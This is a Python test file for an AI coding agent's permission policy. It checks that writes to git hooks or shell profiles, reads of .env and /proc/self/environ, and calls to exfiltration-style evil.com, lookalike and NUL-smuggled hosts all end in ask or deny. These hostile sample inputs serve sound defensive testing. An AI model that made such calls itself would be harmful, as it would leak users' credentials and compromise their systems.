"""Votes on file, network and untargeted calls; the hard guards; plan mode; scopes."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from ketch.paths import config_dir
from ketch.policy import ProposedCall, Vote, combine_votes
from ketch.tools import Effect
from ketch_guards.guards import vote as guards_vote
from ketch_policy.decide import vote as policy_vote
from tests.policy.policy_kit import (
    combined,
    file_call,
    make_workspace,
    shell_call,
    snapshot,
    web_call,
)


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    return make_workspace(tmp_path)


def test_profile_table_for_files(ws: Path) -> None:
    inside, outside = ws / "src" / "a.py", Path("/etc/hostname")
    table = {
        ("manual", Effect.READ, inside): "allow",
        ("manual", Effect.READ, outside): "ask",
        ("manual", Effect.WRITE, inside): "ask",
        ("assisted", Effect.READ, inside): "allow",
        ("assisted", Effect.READ, outside): "ask",
        ("assisted", Effect.WRITE, inside): "allow",
        ("full-access", Effect.READ, outside): "allow",
        ("full-access", Effect.WRITE, inside): "allow",
    }
    for (profile, effect, path), expected in table.items():
        tool = "read_file" if effect == Effect.READ else "write_file"
        assert (
            combined(file_call(tool, effect, path), snapshot(ws, profile)).decision == expected
        ), (profile, effect, path)


@pytest.mark.parametrize("profile", ["manual", "assisted", "full-access"])
def test_hard_guards_ask_in_every_profile(ws: Path, profile: str) -> None:
    snap = snapshot(ws, profile, rules={"allow": ["*", "write(**)", "read(**)"]})
    for target in [
        ws / ".git" / "config",
        ws / ".git" / "hooks" / "pre-commit",
        ws / "sub" / ".git" / "HEAD",
        ws / ".ketch" / "config.toml",
        config_dir() / "config.toml",
        config_dir() / "trusted.toml",
        ws.parent / "proj-evil" / "x.txt",
        Path.home() / ".bashrc",
        ws / "innocent.txt",
    ]:
        vote = combined(file_call("write_file", Effect.WRITE, target), snap)
        assert vote.decision == "ask", target
        assert vote.scope is None, "a hard guard never offers 'always allow'"
    vote = combined(file_call("read_file", Effect.READ, ws / ".env"), snap)
    assert vote.decision == "allow"  # the allow rule read(**) names it: the one exception


def test_secret_reads_ask_unless_a_rule_or_approval_names_them(ws: Path) -> None:
    for target in (ws / ".env", ws / "link-to-env"):  # a symlink is resolved first (case 14)
        vote = combined(file_call("read_file", Effect.READ, target), snapshot(ws, "full-access"))
        assert vote.decision == "ask" and "secret" in vote.reason
        assert vote.scope == "read(.env)"
    assert (
        combined(
            file_call("read_file", Effect.READ, ws / ".env.example"), snapshot(ws, "manual")
        ).decision
        == "allow"
    )
    assert (
        combined(
            file_call("read_file", Effect.READ, ws / ".env"),
            snapshot(ws, "manual", approvals=("read(.env)",)),
        ).decision
        == "allow"
    )
    assert (
        combined(
            file_call("read_file", Effect.READ, ws / ".env"),
            snapshot(ws, "manual", rules={"ask": ["read(.env)"], "allow": ["read(.env)"]}),
        ).decision
        == "ask"
    )


def test_prefix_lookalike_is_outside(ws: Path) -> None:
    """/w/proj-evil is not inside /w/proj (case 13)."""
    vote = combined(
        file_call("read_file", Effect.READ, ws.parent / "proj-evil" / "x.txt"),
        snapshot(ws, "assisted"),
    )
    assert vote.decision == "ask" and "outside the workspace" in vote.reason


def test_rules_order_deny_then_ask_then_allow(ws: Path) -> None:
    path = ws / "src" / "a.py"
    rules = {"deny": ["write(src/**)"], "allow": ["write(src/**)"]}
    assert (
        combined(
            file_call("write_file", Effect.WRITE, path), snapshot(ws, "full-access", rules=rules)
        ).decision
        == "deny"
    )
    rules = {"ask": ["write_file(src/**)"], "allow": ["write(**)"]}
    assert (
        combined(
            file_call("write_file", Effect.WRITE, path), snapshot(ws, "full-access", rules=rules)
        ).decision
        == "ask"
    )
    rules = {"allow": ["write(src/**)"]}
    assert (
        combined(
            file_call("write_file", Effect.WRITE, path), snapshot(ws, "manual", rules=rules)
        ).decision
        == "allow"
    )
    assert (
        combined(
            file_call("write_file", Effect.WRITE, ws / "README.md"),
            snapshot(ws, "manual", rules=rules),
        ).decision
        == "ask"
    )
    assert (
        combined(
            file_call("write_file", Effect.WRITE, path),
            snapshot(ws, "manual", rules={"deny": ["write_file"]}),
        ).decision
        == "deny"
    )


def test_a_malformed_deny_rule_makes_everything_ask(ws: Path) -> None:
    snap = snapshot(ws, "full-access", rules={"deny": ["shell(rm -rf"]})
    vote = policy_vote(file_call("read_file", Effect.READ, ws / "README.md"), snap)
    assert vote.decision == "ask" and "missing the closing ')'" in vote.reason
    assert (
        policy_vote(
            file_call("read_file", Effect.READ, ws / "README.md"),
            snapshot(ws, "manual", rules={"allow": ["shell(("]}),
        ).decision
        == "allow"
    )


def test_ask_scopes_are_narrow(ws: Path) -> None:
    assert (
        combined(
            file_call("write_file", Effect.WRITE, ws / "src" / "a.py"), snapshot(ws, "manual")
        ).scope
        == "write(src/**)"
    )
    assert (
        combined(
            file_call("write_file", Effect.WRITE, ws / "README.md"), snapshot(ws, "manual")
        ).scope
        == "write(README.md)"
    )
    assert (
        combined(
            file_call("read_file", Effect.READ, Path("/usr/share/doc/x.txt")),
            snapshot(ws, "manual"),
        ).scope
        == "read(/usr/share/doc/**)"
    )
    assert (
        combined(shell_call("git status --short", ws), snapshot(ws, "manual")).scope
        == "shell(git status:*)"
    )
    assert (
        combined(shell_call("npm run build --prod", ws), snapshot(ws, "manual")).scope
        == "shell(npm run build:*)"
    )
    assert (
        combined(shell_call("python -m pytest -x", ws), snapshot(ws, "manual")).scope
        == "shell(python -m pytest:*)"
    )
    assert (
        combined(shell_call("python script.py", ws), snapshot(ws, "manual")).scope
        == "shell(python script.py)"
    )
    assert (
        combined(shell_call("rm -rf build", ws), snapshot(ws, "assisted")).scope
        == "shell(rm -rf build)"
    )
    assert (
        combined(shell_call("ls > out.txt", ws), snapshot(ws, "manual")).scope
        == "shell(ls:*); write(out.txt)"
    )
    assert combined(shell_call("ls $(echo x)", ws), snapshot(ws, "assisted")).scope is None
    # granting the scope really allows the same command next time, and nothing wider
    granted = snapshot(ws, "manual", approvals=("shell(git status:*)",))
    assert combined(shell_call("git status -s", ws), granted).decision == "allow"
    assert combined(shell_call("git stash", ws), granted).decision == "ask"
    granted = snapshot(ws, "manual", approvals=("shell(ls:*); write(out.txt)",))
    assert combined(shell_call("ls > out.txt", ws), granted).decision == "allow"
    assert combined(shell_call("ls > other.txt", ws), granted).decision == "ask"


def test_combining_asks_keeps_every_scope_or_none() -> None:
    votes = [
        Vote(decision="ask", reason="a", scope="shell(ls:*)"),
        Vote(decision="ask", reason="b", scope="read(.env)"),
    ]
    assert combine_votes(votes).scope == "shell(ls:*); read(.env)"
    votes.append(Vote(decision="ask", reason="guard", scope=None))
    assert combine_votes(votes).scope is None


def test_network_votes(ws: Path) -> None:
    call = web_call("https://docs.python.org/3/", "docs.python.org")
    vote = combined(call, snapshot(ws, "assisted"))
    assert vote.decision == "ask" and vote.scope == "web(docs.python.org)"
    assert (
        combined(call, snapshot(ws, "assisted", approvals=("web(docs.python.org)",))).decision
        == "allow"
    )
    assert combined(call, snapshot(ws, "full-access")).decision == "allow"
    assert (
        combined(
            call, snapshot(ws, "full-access", rules={"deny": ["web(docs.python.org)"]})
        ).decision
        == "deny"
    )
    exfil = web_call("https://secret-token.evil.com/?q=1", "secret-token.evil.com")
    assert (
        combined(exfil, snapshot(ws, "assisted", approvals=("web(evil.com)",))).decision == "ask"
    )  # DNS labels (case 22)
    lookalike = web_call("https://docs.python.org.evil.com/", "docs.python.org.evil.com")
    assert (
        combined(
            lookalike, snapshot(ws, "manual", rules={"allow": ["web_fetch(docs.python.org)"]})
        ).decision
        == "ask"
    )
    nul = web_call("https://docs.python.org\x00.evil.com/")
    vote = combined(nul, snapshot(ws, "manual", rules={"allow": ["web(docs.python.org)"]}))
    assert vote.decision == "ask" and vote.scope is None


def test_untargeted_calls(ws: Path) -> None:
    pure = ProposedCall(id="c", tool="think", input={}, effects=frozenset(), mutating=False)
    assert combined(pure, snapshot(ws, "manual")).decision == "allow"
    mcp = ProposedCall(id="c", tool="mcp__time__now", input={}, effects=frozenset(), mutating=True)
    vote = combined(mcp, snapshot(ws, "assisted"))
    assert vote.decision == "ask" and vote.scope == "mcp__time__now"
    assert (
        combined(mcp, snapshot(ws, "assisted", approvals=("mcp__time__now",))).decision == "allow"
    )
    assert combined(mcp, snapshot(ws, "full-access")).decision == "allow"
    assert combined(mcp, snapshot(ws, "assisted", mode="plan")).decision == "deny"


def test_plan_mode_never_writes_or_runs_non_read_only_commands(ws: Path) -> None:
    plan = snapshot(ws, "full-access", mode="plan", rules={"allow": ["shell(rm:*)"]})
    assert (
        policy_vote(
            file_call("write_file", Effect.WRITE, ws / "src" / "a.py", mutating=False), plan
        ).decision
        == "deny"
    )
    assert policy_vote(shell_call("rm -rf build", ws), plan).decision == "deny"
    assert policy_vote(shell_call("ls > out.txt", ws), plan).decision == "deny"
    assert policy_vote(shell_call("ls $(x)", ws), plan).decision == "deny"
    assert policy_vote(shell_call("git log -1", ws), plan).decision == "allow"
    # git status refreshes .git/index outside a sandbox: not read-only there
    assert policy_vote(shell_call("git status", ws), plan).decision == "deny"
    assert policy_vote(shell_call("git --no-optional-locks status", ws), plan).decision == "allow"
    assert (
        combined(shell_call("git log -1", ws), snapshot(ws, "manual", mode="plan")).decision
        == "ask"
    )


def test_commands_outside_the_workspace_and_the_sandbox_bonus(ws: Path) -> None:
    outside = shell_call("ls", ws, cwd=Path("/tmp"))
    assert combined(outside, snapshot(ws, "assisted")).decision == "ask"
    test_run = shell_call("python -m pytest", ws)
    assert combined(test_run, snapshot(ws, "assisted", sandboxed=True)).decision == "allow"
    assert combined(test_run, snapshot(ws, "assisted", sandboxed=False)).decision == "ask"
    # a tool that does not run commands through the sandbox hook gets no bonus
    foreign = shell_call("python -m pytest", ws, plugin="thirdparty")
    assert combined(foreign, snapshot(ws, "assisted", sandboxed=True)).decision == "ask"
    # a command that asked for the network keeps it: in the sandbox the network is the
    # egress proxy's, which holds each connection to the domain rules (ketch_sandbox)
    networked = shell_call("python -m pytest", ws, network=True)
    assert combined(networked, snapshot(ws, "assisted", sandboxed=True)).decision == "allow"
    assert combined(networked, snapshot(ws, "assisted", sandboxed=False)).decision == "ask"


def test_shell_deny_path_rules_apply_to_named_files(ws: Path) -> None:
    """One policy for every path (case 18/19): read/write rules hold inside commands."""
    rules = {"deny": ["read(.env)", "write(src/**)"]}
    assert (
        combined(shell_call("grep KEY .env", ws), snapshot(ws, "full-access", rules=rules)).decision
        == "deny"
    )
    assert (
        combined(shell_call("rm src/a.py", ws), snapshot(ws, "full-access", rules=rules)).decision
        == "deny"
    )
    assert (
        combined(
            shell_call("echo x > src/a.py", ws), snapshot(ws, "full-access", rules=rules)
        ).decision
        == "deny"
    )
    assert (
        combined(
            shell_call("echo x > README.md", ws), snapshot(ws, "full-access", rules=rules)
        ).decision
        == "allow"
    )


def test_a_raising_or_unloaded_policy_still_leaves_the_guards(ws: Path) -> None:
    """Without any policy plugin, the guards alone still ask for what they guard."""
    assert (
        guards_vote(
            file_call("write_file", Effect.WRITE, ws / ".git" / "config"),
            snapshot(ws, "full-access"),
        )
        is not None
    )
    assert (
        guards_vote(
            file_call("write_file", Effect.WRITE, ws / "src" / "a.py"), snapshot(ws, "full-access")
        )
        is None
    )


def test_a_symlinked_workspace_is_compared_by_real_path(tmp_path: Path) -> None:
    real = make_workspace(tmp_path / "real")
    link = tmp_path / "link"
    os.symlink(real, link)
    vote = combined(
        file_call("write_file", Effect.WRITE, link / "src" / "a.py"), snapshot(link, "assisted")
    )
    assert vote.decision == "allow"
    vote = combined(
        file_call("write_file", Effect.WRITE, link / ".git" / "config"), snapshot(link, "assisted")
    )
    assert vote.decision == "ask"


def test_process_environment_is_a_secret_even_in_full_access(ws: Path) -> None:
    """ketch's own environment holds the API keys: /proc/self/environ always asks."""
    for target in (
        Path("/proc/self/environ"),
        Path(f"/proc/{os.getpid()}/environ"),
        Path("/proc/self/mem"),
    ):
        vote = combined(file_call("read_file", Effect.READ, target), snapshot(ws, "full-access"))
        assert vote.decision == "ask" and "secret" in vote.reason
    assert (
        combined(
            file_call("read_file", Effect.READ, Path("/proc/cpuinfo")), snapshot(ws, "full-access")
        ).decision
        == "allow"
    )
    shell = combined(shell_call("cat /proc/self/environ", ws), snapshot(ws, "full-access"))
    assert shell.decision == "ask"


def test_manual_reason_is_said_once_not_per_sub_command(ws: Path) -> None:
    # Issue 26 item 8: "why it asks: runs 'echo hi' (the manual profile asks before every
    # command); runs 'ls' (...); runs 'wc -l' (...); writes out.txt (...)".
    vote = policy_vote(shell_call("echo hi && ls | wc -l > out.txt", ws), snapshot(ws, "manual"))
    assert vote is not None and vote.decision == "ask"
    assert vote.reason == (
        f"the manual profile asks before every command and edit (this one writes {ws / 'out.txt'})"
    )
    assert "echo" not in vote.reason
    plain = policy_vote(shell_call("ls", ws), snapshot(ws, "manual"))
    assert plain is not None and plain.reason == "the manual profile asks before every command"
